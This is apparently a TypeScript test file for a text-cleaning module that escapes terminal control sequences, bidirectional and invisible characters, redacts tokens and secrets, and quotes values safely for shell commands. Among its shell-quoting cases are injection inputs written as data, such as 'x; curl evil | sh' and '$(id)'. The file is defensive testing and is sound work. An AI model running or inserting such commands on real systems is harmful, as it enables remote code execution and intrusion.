import { expect, it } from "vitest";
import { redacted, safeJson, shellWord, shown } from "./clean.ts";

const ESC = String.fromCharCode(27);
const sign = (code: number): string => String.fromCodePoint(code);

it.each([
  ["a colour", `${ESC}[31mred${ESC}[0m`, "\\x1b[31mred\\x1b[0m"],
  ["the clipboard of a terminal", `${ESC}]52;c;aGk=\u0007`, "\\x1b]52;c;aGk=\\x07"],
  ["a control in one byte", `${sign(0x9b)}2J`, "\\x9b2J"],
  ["a line end", "one\r\ntwo\u2028three", "one two three"],
  ["text turned round", `a${sign(0x202e)}b${sign(0x2066)}`, "a\\u{202e}b\\u{2066}"],
  ["hidden tags", `a${sign(0xe0041)}`, "a\\u{e0041}"],
  ["half a pair", "a\ud800b", "a\\u{d800}b"],
  ["a flood of marks", `e${"\u0301".repeat(90)}`, `e${"\u0301".repeat(4)}`],
  ["a soft hyphen", "pay\u00adpal", "pay\\xadpal"],
])("writes out %s", (_, given, wanted) => {
  expect(shown(given)).toBe(wanted);
});

it("leaves names as people write them", () => {
  for (const name of ["Noor Haddad", "Łukasz", "李雷", "محمد", "می\u200cخواهم", "👩\u200d🔬", "O'Neil"])
    expect(shown(name)).toBe(name);
  expect(shown("a\u200d")).toBe("a\\u{200d}");
});

it("makes JSON that is the same to a program, and moves no terminal", () => {
  const value = { name: `${ESC}[2J${sign(0x9b)}${sign(0x202e)}${sign(0xe0041)}${sign(0x7f)}`, plain: "Ł 李" };
  const text = safeJson(value);
  expect(JSON.parse(text)).toEqual(value);
  expect(text).toContain("Ł 李");
  expect(/\p{Cf}|(?!\n)\p{Cc}/u.test(text)).toBe(false);
});

it("never lets through what looks like a token, or is to be hidden", () => {
  const token = `rcl_${"Ab3".repeat(16)}x`;
  expect(redacted(`Bearer ${token} and s3cret-value`, ["s3cret-value"])).toBe(
    "Bearer rcl_[hidden] and [hidden]",
  );
});

it.each([
  ["01jdyz3v6k8m2n4p", "01jdyz3v6k8m2n4p"],
  ["plans/a b.json", "'plans/a b.json'"],
  ["x; curl evil | sh", "'x; curl evil | sh'"],
  ["$(id)", "'$(id)'"],
  ["a'; id", "'a'\\''; id'"],
  ["a\nid", "'a id'"],
])("writes %j as one word of a command", (given, wanted) => {
  expect(shellWord(given)).toBe(wanted);
});
